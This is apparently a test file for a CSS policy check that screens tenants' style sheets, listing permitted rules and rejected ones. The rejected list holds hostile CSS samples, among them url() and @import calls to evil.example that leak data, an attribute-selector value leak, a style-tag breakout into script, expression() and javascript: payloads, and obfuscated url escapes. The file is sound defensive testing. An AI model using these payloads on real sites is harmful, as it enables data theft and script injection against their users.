import { findCssProblem } from './css.policy.js';

describe('the style sheet of a tenant', () => {
  it.each([
    '',
    ' \n ',
    '.button { color: #0a5; border-radius: 4px; }',
    'h1, .card > p:first-child { font-family: Noto Sans, sans-serif; margin: 0 auto !important }',
    ':root { --brand: rgb(10, 20, 30); }\n.hero { background: linear-gradient(45deg, var(--brand), #fff); width: calc(100% - 2rem) }',
    '.a:not(.b) { padding-inline-start: -1.5em; line-height: 1.4; }',
    '.a {}',
  ])('may be %j', (css) => expect(findCssProblem(css)).toBeUndefined());

  it.each([
    '@import url(https://evil.example/x.css);',
    '@import "x.css";',
    '@font-face { font-family: x; }',
    '@media print { a { color: red } }',
    '.a { background: url(https://evil.example/?leak) }',
    '.a { background: url("data:image/svg+xml,x") }',
    '.a { background: URL(x) }',
    '.a { background: u\\72l(x) }',
    '.a { background: image-set(x 1x) }',
    '.a { width: expression(alert(1)) }',
    '.a { behavior: x }',
    '.a { -moz-binding: x }',
    '.a { content: x }',
    '.a { position: fixed }',
    '.a { z-index: 9 }',
    'input[value^=a] { color: red }',
    '</style><script>alert(1)</script>',
    '.a { color: red } /* x */',
    '.a { color: red',
    '.a { color: red } }',
    '.a { .b { color: red } }',
    '.a { color: rgb(1, 2, 3 }',
    '.a { color: ) rgb( }',
    '.a { color }',
    '.a { color: a: b }',
    '{ color: red }',
    'color: red',
    '.a { color: red; \u202e }',
    '.a { color: javascript:alert(1) }',
    '.a\u0000 { color: red }',
    '.a { color: attr(x) }',
    '.a { color: paint (x) }',
    'x'.repeat(400) + ' { color: red }',
  ])('must not be %j', (css) => expect(findCssProblem(css)).toMatch(/^Must /));
});
